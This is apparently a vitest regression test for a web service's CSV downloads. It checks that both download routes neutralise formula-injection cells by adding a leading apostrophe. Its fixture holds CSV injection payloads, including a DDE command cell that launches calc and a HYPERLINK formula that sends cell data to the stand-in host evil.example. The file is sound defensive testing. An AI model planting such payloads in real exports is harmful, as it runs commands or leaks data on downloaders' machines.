import { afterAll, beforeAll, expect, it } from 'vitest';
import {
  ADMIN,
  call,
  createProjectWithUpload,
  describeEachDialect,
  login,
  type Session,
  startTestServer,
  type TestServer,
} from '../../../test/support/test-server.js';
import { upsert } from '../dashboards/filter-fixture.js';

/*
 * Issue 23, finding 7: a value uploaded by one user that starts with `=`, `+`, `-`, `@`, a tab or a
 * carriage return ran as a formula in the spreadsheet of whoever downloaded the CSV. Both server
 * downloads (a collection's and a table component's) neutralise such cells with a leading `'`;
 * numbers stay numbers.
 */
const ATTACK_CSV = [
  'id,"=cmd|\' /C calc\'!A0",note,amount',
  '1,a,"=HYPERLINK(""http://evil.example/?""&A1,""open"")",-5',
  '2,b,+1+cmd,2.5',
  '3,c,-2+3+cmd,3',
  '4,d,@SUM(1+1)*cmd,4',
  '5,e,"\tx=1",5',
  '6,f,-5,6',
  '7,g,plain text,7',
].join('\n');

/** The note cells and the header as a spreadsheet would get them. */
const EXPECTED_NOTES = [
  `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
  "'+1+cmd",
  "'-2+3+cmd",
  "'@SUM(1+1)*cmd",
  "'\tx=1",
  '-5',
  'plain text',
];

describeEachDialect('CSV downloads neutralise formulas', (dialect) => {
  let server: TestServer;
  let admin: Session;
  let collectionId: string;
  let dashboardId: string;

  beforeAll(async () => {
    server = await startTestServer(dialect);
    admin = await login(server, ADMIN.email, ADMIN.password);
    const project = await createProjectWithUpload(server, admin.access_token, 'Formulas', ATTACK_CSV);
    collectionId = project.collectionId;
    await upsert(server, admin.access_token, collectionId);
    const created = await call<{ dashboard_id: string }>(server, 'POST', '/dashboards', {
      token: admin.access_token,
      json: {
        project_id: project.projectId,
        title: 'Formulas',
        components: [{ component_id: 'rows', type: 'table', data_collection_id: collectionId }],
      },
    });
    expect(created.status, created.text).toBe(201);
    dashboardId = created.body.dashboard_id;
  });
  afterAll(async () => {
    await server?.stop();
    await server?.database.drop();
  });

  const fetchCsv = async (path: string) => {
    const response = await fetch(`${server.url}/service/api/v1${path}`, {
      headers: { authorization: `Bearer ${admin.access_token}` },
    });
    const text = await response.text();
    expect(response.status, text).toBe(200);
    return text.trim().split(/\r?\n/);
  };

  /** Every cell that could run has its `'`; the number columns and `-5` are untouched. */
  const expectNeutralised = (lines: string[]) => {
    expect(lines[0]).toMatch(/^id,'=cmd\|' \/C calc'!A0,note,amount(,|$)/);
    const notes = lines.slice(1, 8).map((line) => line.replace(/^\d+,[a-g],/, '').replace(/,-?[\d.]+(,.*)?$/, ''));
    expect(notes).toEqual(EXPECTED_NOTES);
    expect(lines[1]).toMatch(/,-5(\.0)?(,|$)/);
  };

  it("in a collection's download", async () => {
    expectNeutralised(await fetchCsv(`/datacollections/${collectionId}/download?format=csv`));
  });

  it("in a table component's download", async () => {
    expectNeutralised(await fetchCsv(`/dashboards/${dashboardId}/components/rows/download`));
  });
});
